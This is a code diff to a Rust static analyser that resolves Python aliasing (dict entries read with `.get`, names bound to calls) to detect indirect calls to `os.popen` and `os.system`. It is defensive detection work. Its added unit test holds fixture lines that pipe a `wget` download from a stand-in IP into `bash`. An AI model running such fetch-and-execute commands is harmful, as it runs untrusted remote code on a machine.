@@ -1,8 +1,8 @@
 //! Names a Python module reaches a function or a string through without writing it at the call:
 //! - an attribute of `self` set once in the class (`self.run = os.system` in `__init__`, then
 //!   `self.run(self.cmd)` in another method), or a class attribute (`run = os.system` in the class body);
-//! - an entry of a dict literal (`{"sh": os.system}["sh"](cmd)`, or `ACTIONS[key](cmd)` where `ACTIONS` is
-//!   bound once, to a dict literal);
+//! - an entry of a dict literal (`{"sh": os.system}["sh"](cmd)`, or `ACTIONS[key](cmd)` /
+//!   `ACTIONS.get(key)(cmd)` where `ACTIONS` is bound once, to a dict literal);
 //! - `functools.partial(f, …)`, which calls `f`;
 //! - a lambda that only forwards its parameters to a call (`go = lambda c: runner(c)`), which is that call's
 //!   function.
@@ -31,6 +31,9 @@ pub(super) struct Aliases<'t> {
     dicts: HashMap<String, Option<Node<'t>>>,
     /// Per class (by node id): attribute name → the expression assigned to it.
     classes: HashMap<usize, HashMap<String, Option<Node<'t>>>>,
+    /// Module names bound to a call (`run = operator.methodcaller("system", cmd)`), for what the call
+    /// makes a function of (see `python_getters.rs`).
+    calls: HashMap<String, Option<Node<'t>>>,
 }
 
 impl<'t> Aliases<'t> {
@@ -39,17 +42,31 @@ impl<'t> Aliases<'t> {
         if let Some(seen) = self.dicts.get_mut(name) {
             *seen = None;
         }
+        if let Some(seen) = self.calls.get_mut(name) {
+            *seen = None;
+        }
     }
 
-    /// `name = {…}`, after [`Aliases::rebound`]: the first binding of a name to a dict literal is kept.
-    pub(super) fn assigned(&mut self, left: Node<'t>, right: Node<'t>, text: &str) {
-        if left.kind() != "identifier" || right.kind() != "dictionary" {
+    /// `name = {…}` or (with `calls`, in a module that names a function maker) `name = f(…)`, after
+    /// [`Aliases::rebound`]: the first binding of a name to a dict literal or a call is kept.
+    pub(super) fn assigned(&mut self, left: Node<'t>, right: Node<'t>, text: &str, calls: bool) {
+        if left.kind() != "identifier" {
             return;
         }
-        let name = left.utf8_text(text.as_bytes()).unwrap_or("");
-        if !self.dicts.contains_key(name) && self.dicts.len() < MAX_ENTRIES {
-            self.dicts.insert(name.to_string(), Some(right));
+        let kept = match right.kind() {
+            "dictionary" => &mut self.dicts,
+            "call" if calls => &mut self.calls,
+            _ => return,
+        };
+        let name = text.get(left.byte_range()).unwrap_or("");
+        if !kept.contains_key(name) && kept.len() < MAX_ENTRIES {
+            kept.insert(name.to_string(), Some(right));
         }
+    }
+
+    /// The call `name` is bound to, when it is bound once, to a call.
+    pub(super) fn bound_call(&self, name: &str) -> Option<Node<'t>> {
+        *self.calls.get(name)?
     }
 
     /// `def f(table=PARTS)`: the parameter stands for the dict `PARTS` is bound to, when `name` is bound to
@@ -163,6 +180,41 @@ impl<'t> Walker<'t, '_> {
             _ => return None,
         };
         let key = self.eval(node.field_child("subscript")?, depth + 1)?;
+        self.entry_of(dict, &key, depth)
+    }
+
+    /// `NAME.get(key)` (or `.get(key, default)`) for a dict bound once: the entry's value.
+    pub(super) fn dict_get(
+        &mut self,
+        function: Node<'t>,
+        arguments: Node<'t>,
+        depth: usize,
+    ) -> Option<Value> {
+        // Most calls are methods of other objects: no dict bound and no literal `{…}.get` is no look.
+        // (`Node::kind` checks its C string each call, so the cheap tests come first.)
+        if (self.aliases.dicts.is_empty() && !self.src(function).starts_with('{'))
+            || function.kind() != "attribute"
+        {
+            return None;
+        }
+        let object = function.field_child("object")?;
+        if !matches!(object.kind(), "dictionary" | "identifier")
+            || (object.kind() == "identifier" && self.aliases.dicts.is_empty())
+            || self.src(function.field_child("attribute")?) != "get"
+        {
+            return None;
+        }
+        let dict = match object.kind() {
+            "dictionary" => object,
+            "identifier" => (*self.aliases.dicts.get(self.src(object))?)?,
+            _ => return None,
+        };
+        let key = self.eval(arguments.named_child(0)?, depth + 1)?;
+        self.entry_of(dict, &key, depth)
+    }
+
+    /// The value `dict` (a literal) holds under `key`.
+    fn entry_of(&mut self, dict: Node<'t>, key: &Value, depth: usize) -> Option<Value> {
         let mut cursor = dict.walk();
         let pairs: Vec<Node<'t>> = dict.named_children(&mut cursor).take(MAX_ENTRIES).collect();
         for pair in pairs {
@@ -172,7 +224,7 @@ impl<'t> Walker<'t, '_> {
             let Some(k) = pair.field_child("key") else {
                 continue;
             };
-            if self.eval(k, depth + 1).as_ref() == Some(&key) {
+            if self.eval(k, depth + 1).as_ref() == Some(key) {
                 return self.eval(pair.field_child("value")?, depth + 1);
             }
         }
@@ -255,6 +307,18 @@ mod tests {
 
     fn reaches(found: &[String], want: &str) -> bool {
         found.iter().any(|r| r.contains(want))
+    }
+
+    #[test]
+    fn a_dict_entry_read_with_get_is_that_entry() {
+        let found = python(concat!(
+            "import os\n",
+            "RUNNERS = {'show': print, 'go': os.popen}\n",
+            "RUNNERS.get('go')('wget -q -O - http://198.51.100.14/p.sh | bash')\n",
+            "RUNNERS.get('nope', print)('wget -q -O - http://198.51.100.14/q.sh | bash')\n",
+        ));
+        assert!(reaches(&found, "os.popen('wget"), "{found:?}");
+        assert!(!reaches(&found, "q.sh"), "{found:?}");
     }
 
     #[test]
